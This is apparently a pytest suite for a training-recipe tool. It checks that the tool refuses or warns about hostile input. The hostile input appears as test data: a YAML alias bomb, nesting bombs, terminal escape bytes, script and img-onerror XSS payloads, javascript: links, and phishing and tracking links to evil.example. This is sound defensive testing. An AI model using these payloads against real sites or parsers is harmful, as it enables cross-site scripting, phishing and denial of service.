            "write a literal brace as {{ or }}")


FAILING_WORKER = """
import json, sys
sys.path.insert(0, sys.argv[1])
from datatrove.executor import LocalPipelineExecutor
from datatrove.pipeline.readers import JsonlReader
from medrecipe.blocks.llm import InferenceStep
from tests.openai_stub import StubServer

if __name__ == "__main__":
    with open("in.jsonl", "w") as handle:
        for index in range(4):
            handle.write(json.dumps({"text": "r", "id": str(index), "metadata": {"source": "s", "answer": "x", "order": index,
                "messages": [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a"}]}}) + "\\n")
    with StubServer() as server:
        # a template the recipe schema refuses, given directly: the rollout raises in every worker
        step = InferenceStep("judge", "out", "${rank}_chunk_${chunk_index}.jsonl", None, "checkpoints", "stub", server.url, None,
                             1, 4, {"max_tokens": 8}, "judge", {"template": "{score} {prompt}", "max_score": 10.0})
        executor = LocalPipelineExecutor([JsonlReader(".", glob_pattern="in.jsonl"), step], tasks=2, workers=2, logging_dir="logs")
        try:
            executor.run()
        except Exception as error:
            print("raised:", type(error).__name__, error)
"""


def test_a_worker_that_fails_ends_the_stage_instead_of_hanging(tmp_path):
    started = time.monotonic()
    result = subprocess.run([sys.executable, "-c", FAILING_WORKER, str(Path(__file__).resolve().parent.parent)], cwd=tmp_path,
                            capture_output=True, text=True, timeout=120)
    assert "raised: StepFailed judge (task" in result.stdout and "'score'" in result.stdout, result.stdout + result.stderr[-2000:]
    assert time.monotonic() - started < 100


# ------------------------------------------------------------------------- input that would exhaust the machine


def limited(memory_gb: int = 2):
    return lambda: resource.setrlimit(resource.RLIMIT_AS, (memory_gb << 30, memory_gb << 30))


def test_an_alias_bomb_is_refused_while_composing(tmp_path):
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"] + [f"a{i}: &a{i} [{', '.join(['*a' + str(i - 1)] * 10)}]" for i in range(1, 9)]
    recipe = write(tmp_path, "r.yaml", BASE + "bomb:\n" + "".join(f"  {line}\n" for line in levels))
    assert recipe.stat().st_size < 1000
    started = time.monotonic()
    result = subprocess.run([sys.executable, "-m", "medrecipe.cli.main", "validate", str(recipe)], cwd=tmp_path, capture_output=True,
                            text=True, timeout=60, preexec_fn=limited())
    refused(result, "more than 100,000 values")
    assert time.monotonic() - started < 20


# Short ids: pytest puts the test's id in PYTEST_CURRENT_TEST, which the child process inherits, and pytest 9.0 spells
# a bytes parameter out whole (6 MB for the first case: the exec fails with E2BIG).
@pytest.mark.parametrize("content, fragment", [
    (b"name: x\n" + b"# padding\n" * 600_000, "larger than 1 MiB"),
    ("name: caf\u00e9\n".encode("latin-1"), "not UTF-8 text"),
    ("name: x\n".encode("utf-16"), "UTF-16"),
    (bytes(range(256)) * 4, "not UTF-8 text"),
    (b"name: x\x00\n", "NUL bytes"),
    (b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n", "nested more than"),
    (b"a: " + b"[" * 400_000 + b"]" * 400_000 + b"\n", "nested more than"),  # libyaml's composer would crash here
    (b"a:\n" + b"".join(b" " * i + b"- \n" for i in range(0, 2_000, 2)), "nested more than"),  # block style
    (b"name: x\nseed: " + b"9" * 5000 + b"\n", "cannot read this value: a number of more than 4,300 digits"),
    (b"name: x\nbase_model: \"Qwen/\x1b[31mQwen3-8B\"\n", "is not allowed in a recipe"),
    (b"name: x\nbase_model: \"Qwen/\\e[31mQwen3-8B\"\n", "control characters are not allowed"),
    # the hint lists micro batch sizes that fit: found by trial up to the batch, it took minutes
    (b"name: x\nbase_model: Qwen/Qwen3-8B\nsft: {datasets: [{path: x}], batch: {global_size: 2147483647}}\n",
     "global batch 2147483647 is not divisible by 8 GPUs"),
], ids=["over-1-MiB", "latin-1", "utf-16", "binary", "nul-byte", "flow-nesting-5k", "flow-nesting-400k", "block-nesting",
        "5000-digit-number", "escape-byte", "escape-sequence", "huge-batch"])
def test_input_that_would_exhaust_or_confuse_is_refused(tmp_path, content, fragment):
    recipe = tmp_path / "r.yaml"
    recipe.write_bytes(content)
    result = subprocess.run([sys.executable, "-m", "medrecipe.cli.main", "validate", str(recipe)], cwd=tmp_path, capture_output=True,
                            text=True, timeout=60, preexec_fn=limited())
    refused(result, fragment)


def test_machine_errors_are_reported_without_a_traceback(tmp_path, cli, monkeypatch):
    monkeypatch.chdir(tmp_path)
    readonly = tmp_path / "readonly"
    readonly.mkdir()
    readonly.chmod(0o500)
    try:
        if os.geteuid() != 0:  # root writes anywhere
            refused(medrecipe("compile", str(RECIPES / "quickstart.yaml"), "--out", str(readonly / "b"), cwd=tmp_path))
    finally:
        readonly.chmod(0o700)
    # --set through a list item that is a string
    refused(medrecipe("validate", str(RECIPES / "ii-medical-8b-1706.yaml"), "--set", "eval.benchmarks.0.split=test", cwd=tmp_path),
            "--set eval.benchmarks.0.split=test")
    # a corrupt stats.json
    build = tmp_path / "build"
    assert medrecipe("compile", str(RECIPES / "quickstart.yaml"), "--out", str(build), cwd=tmp_path).returncode == 0
    from medrecipe.compile.layout import Layout
    from medrecipe.recipe import load_recipe

    layout = Layout(build.resolve(), load_recipe(RECIPES / "quickstart.yaml").recipe)
    layout.data_stats().parent.mkdir(parents=True, exist_ok=True)
    layout.data_stats().write_text("{not json")
    refused(medrecipe("compile", str(RECIPES / "quickstart.yaml"), "--out", str(build), cwd=tmp_path), "stats.json is not the JSON")
    # a Slurm dry run of a stage whose environment is not set up
    result = medrecipe("run", str(RECIPES / "quickstart.yaml"), "--stage", "sft", "--launcher", "slurm", "--gpu", "--dry-run",
                       "--out", str(tmp_path / "b2"), cwd=tmp_path, env={"MEDRECIPE_HOME": str(tmp_path / "empty-home")})
    assert result.returncode in (0, 2) and "Traceback" not in result.stderr


@pytest.mark.parametrize("config", [
    "[1, 2]",  # not an object
    json.dumps({"model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2, "intermediate_size": 128, "vocab_size": 100,
                "num_attention_heads": 0, "max_position_embeddings": 100_000}),  # no heads to divide by
    '{"hidden_size": 64, "num_hidden_layers": 2, "intermediate_size": 128, "vocab_size": 100, "num_attention_heads": 8, '
    '"max_position_embeddings": Infinity}',  # Python's json reads it; JSON has no such number
    json.dumps({"hidden_size": 64.5, "num_hidden_layers": True, "intermediate_size": "128", "vocab_size": 100,
                "num_attention_heads": 8, "max_position_embeddings": 4096.5}),  # sizes that are no counts
    json.dumps({"model_type": "llama", "hidden_size": 4, "num_hidden_layers": 2, "intermediate_size": 8, "vocab_size": 100,
                "num_attention_heads": 8}),  # heads of no features (review: a head_dim of 0)
])
def test_a_hostile_config_json_leaves_the_model_unsized_not_a_traceback(tmp_path, config):
    """Found by review: a model folder (or a cached config.json) whose file is a list, says 0 heads or Infinity positions
    crashed `validate` and `plan` with AttributeError, ZeroDivisionError and OverflowError tracebacks. Such a model is
    one medrecipe cannot size, as a model it does not know: validate says so, plan gives no estimate."""
    from medrecipe.catalog import models

    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text(config)
    assert models.limits(str(model)) is None and models.shape(str(model)) is None
    recipe = write(tmp_path, "r.yaml", f"extends: {RECIPES / 'quickstart.yaml'}\nbase_model: {model}\n")
    validated = medrecipe("validate", str(recipe), cwd=tmp_path)
    assert validated.returncode == 0 and "Traceback" not in validated.stderr, validated.stderr
    assert f"medrecipe does not know {model}'s positions and attention heads" in validated.stderr
    planned = medrecipe("plan", str(recipe), cwd=tmp_path)
    assert planned.returncode == 0 and "Traceback" not in planned.stderr, planned.stderr


# ------------------------------------------------------------------------------------ remote code, markup


def test_rl_on_a_model_medrecipe_does_not_know_warns_that_openrlhf_runs_its_code(tmp_path):
    """OpenRLHF 0.11.2 loads every model with trust_remote_code=True (openrlhf/models/model.py): a recipe that names
    an unknown model for RL is said to run that repository's code; the shipped recipes' models are not."""
    rl = ("rl: {algorithm: dpo, data: {path: pairs.jsonl}, learning_rate: 5.0e-7, init_from: %s}\n")
    unknown = write(tmp_path, "r.yaml", BASE + rl % "someone/custom-arch")
    result = medrecipe("validate", str(unknown), cwd=tmp_path)
    assert result.returncode == 0 and "r.yaml:3:" in result.stderr
    assert "rl.init_from: OpenRLHF 0.11.2 loads someone/custom-arch with trust_remote_code=True" in result.stderr
    known = write(tmp_path, "k.yaml", BASE + rl % "Qwen/Qwen3-8B")
    assert "trust_remote_code" not in medrecipe("validate", str(known), cwd=tmp_path).stderr


def test_remote_code_options_are_warned_about_naming_the_field(tmp_path):
    recipe = write(tmp_path, "r.yaml", BASE + textwrap.dedent("""\
        sft: {datasets: [{path: x}], axolotl: {trust_remote_code: true, plugins: [evil.Plugin]}}
        rl: {algorithm: dapo, data: {path: prompts.jsonl, fields: {prompt: q, answer: a}}, learning_rate: 1.0e-6,
             rollout_batch_size: 64, mini_batch_size: 16, samples_per_prompt: 8, openrlhf: {train.agent_func_path: agent.py, use_ms: true}}
        """))
    for command in ("validate", "plan", "compile"):
        result = medrecipe(command, str(recipe), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        for field in ("sft.axolotl.trust_remote_code", "sft.axolotl.plugins", "rl.openrlhf.train.agent_func_path", "rl.openrlhf.use_ms"):
            output = result.stderr + result.stdout
            assert "r.yaml:" in output and field in output, (command, field)


def test_code_the_recipe_chooses_to_run_is_warned_about_naming_the_field(tmp_path):
    """Found by review: a curation step without an endpoint has datatrove start vLLM with --trust-remote-code, and the
    Slurm jobs source the recipe's virtual environment (a bash script) and run in its container; nothing said so."""
    recipe = write(tmp_path, "r.yaml", BASE + textwrap.dedent("""\
        data:
          sources: [{name: s, path: s.jsonl, kind: prompts, fields: {prompt: q, answer: a}},
                    {name: t, path: t.jsonl, kind: prompts, fields: {prompt: q, answer: a}}]
          steps: [{type: generate, sources: [s], model: attacker/custom-arch, samples: 1, max_samples: 1},
                  {type: generate, sources: [t], model: Qwen/Qwen3-8B, samples: 1, max_samples: 1}]
        compute: {slurm: {venv: recipes/tools, container: attacker/image}}
        """))
    for command in ("validate", "plan", "compile"):
        result = medrecipe(command, str(recipe), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        output = " ".join((result.stderr + result.stdout).split())  # plan's table wraps its warnings
        assert "data.steps[0].model: datatrove serves attacker/custom-arch with vLLM and --trust-remote-code" in output, command
        assert "data.steps[1].model" not in output, command  # transformers' own architecture: nothing of its own to run
        for field in ("compute.slurm.venv", "compute.slurm.container"):
            assert f"{field}: medrecipe " in output and "this recipe chooses code that runs on the cluster" in output, (command, field)
    # a model name is never an option of the `vllm serve` command datatrove runs
    step = "data: {sources: [{name: s, path: s.jsonl}], steps: [{type: generate, model: '--served-model-name=x', samples: 1, max_samples: 1}]}\n"
    refused(medrecipe("validate", str(write(tmp_path, "m.yaml", BASE + step)), cwd=tmp_path), "m.yaml:3:", "data.steps[0].model: not of the form this field takes")


def test_passthrough_keys_that_send_data_elsewhere_are_warned_about_naming_the_field(tmp_path):
    recipe = write(tmp_path, "r.yaml", BASE + textwrap.dedent("""\
        sft: {datasets: [{path: x}], axolotl: {mlflow_tracking_uri: "http://collector:5000", push_dataset_to_hub: org/leak}}
        rl: {algorithm: dpo, data: {path: pairs.jsonl}, learning_rate: 5.0e-7, openrlhf: {logger.tensorboard_dir: /elsewhere}}
        """))
    fields = ("sft.axolotl.mlflow_tracking_uri", "sft.axolotl.push_dataset_to_hub", "rl.openrlhf.logger.tensorboard_dir")
    for command in ("validate", "plan", "compile"):
        result = medrecipe(command, str(recipe), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        output = " ".join((result.stderr + result.stdout).split())  # plan's table wraps its warnings
        for field in fields:
            assert f"{field}: " in output and "this recipe chooses where your data goes" in output, (command, field)
    removed = medrecipe("validate", str(recipe), "--set", "sft.axolotl.push_dataset_to_hub=~", cwd=tmp_path)
    assert "push_dataset_to_hub" not in removed.stderr and "mlflow_tracking_uri" in removed.stderr


def test_markup_in_recipe_text_stays_text_in_the_cards(tmp_path):
    """Every card rendered as the Hub renders Markdown (CommonMark with inline HTML and tables): what a recipe wrote,
    wherever it lands (description, overview, base model, benchmark titles, sources and their files, step parameters
    and their names, hyperparameters, Axolotl passthrough, limitations, the paper's URL), is text. The only links are
    medrecipe's (to the Hub, to the serving tools' docs) and the URLs the recipe gives, whole; the only HTML is the
    cards' own <details>."""
    from markdown_it import MarkdownIt

    paper = "https://arxiv.org/abs/1[official](https://evil.example/p)"
    source_url = "https://x.example/a)![pixel](https://evil.example/src.png"
    recipe = write(tmp_path, "r.yaml", BASE.replace("base_model: Qwen/Qwen3-8B", "base_model: './<b>base</b>'")
                   + textwrap.dedent("""        description: 'A model <script>alert(1)</script> <img src=x onerror="alert(1)"> [click](javascript:alert(1)) [weights][w] ![t][p]'
        hub: {reproduces: {paper: '%s'}}
        data:
          sources:
            - {name: s, path: "x`<img src=x onerror=alert(7)>`.jsonl", fields: {prompt: q, response: r}}
            - {name: h, hub: org/ds, url: '%s', data_files: ['<img src=x onerror=alert(8)>.jsonl', '[f](https://evil.example/f)'],
               fields: {prompt: q, response: r}}
          steps:
            - {type: complete_generation, drop_finish_reasons: ["<b>x</b>"]}
            - {type: domain_filter, classifier: {backend: embedding, labels: {"<img src=x onerror=alert(3)>": a, B: b}}, keep: [B]}
        sft: {datasets: [{path: x}], optimizer: "<img src=y onerror=alert(5)>[o](https://evil.example/o)",
              roles_to_train: ["[r](https://evil.example/r)"], axolotl: {wandb_name: "<img src=x onerror=alert(4)>"}}
        eval:
          benchmarks: [mine]
          custom_benchmarks: [{name: mine, title: "<img src=x onerror=alert(2)>", hub: org/mine}]
        publish:
          card:
            overview: "Our weights: [official][w]\\n\\n[w]: https://evil.example/phish\\n[p]: https://evil.example/pixel.png"
            limitations: ["<iframe src=evil>"]
        """ % (paper, source_url)))
    compiled = medrecipe("compile", str(recipe), "--out", "build", cwd=tmp_path)
    assert compiled.returncode == 0, compiled.stderr
    cards = list((tmp_path / "build" / "cards").rglob("README.md"))
    assert {card.parent.name for card in cards} == {"model", "dataset"}
    markdown = MarkdownIt("commonmark").enable("table")

    def tokens(found):
        for token in found:
            yield token
            yield from tokens(token.children or [])

    for card in cards:
        body = card.read_text().split("\n---\n", 1)[1]  # after the YAML header
        rendered = markdown.render(body)
        for element in ("<script", "<img", "<iframe", "<b>", 'href="javascript:', 'href="https://evil'):
            assert element not in rendered, (card.parent.name, element)
        assert "&lt;script&gt;" in rendered or card.parent.name != "model"
        parsed = list(tokens(markdown.parse(body)))
        links = {token.attrGet("href") for token in parsed if token.type == "link_open"}
        assert all(href.startswith(("https://huggingface.co/", "https://docs.vllm.ai", "https://docs.sglang.ai")) for href in links - {
            "https://arxiv.org/abs/1%5Bofficial%5D%28https://evil.example/p%29",
            "https://x.example/a%29!%5Bpixel%5D%28https://evil.example/src.png"}), links
        assert not [token for token in parsed if token.type == "image"]
        html_tags = {tag for token in parsed if token.type.startswith("html") for tag in re.findall(r"</?([A-Za-z]+)", token.content)}
        assert html_tags <= {"details", "summary", "code"}, (card.parent.name, html_tags)
    refused(medrecipe("validate", str(recipe), "--set", "license=<script>x</script>", cwd=tmp_path), "license: not of the form this field takes")


def test_stage_all_stops_on_a_recipe_mistake_and_skips_only_what_this_machine_cannot_run(tmp_path):
    recipe = write(tmp_path, "r.yaml", BASE + "data: {sources: [{name: s, path: missing.jsonl}]}\n"
                   "sft: {sequence_len: 512, batch: {global_size: 2}, gpus_per_node: 1}\n")
    refused(medrecipe("run", str(recipe), "--stage", "all", "--out", "build", cwd=tmp_path, timeout=300), "no data at")
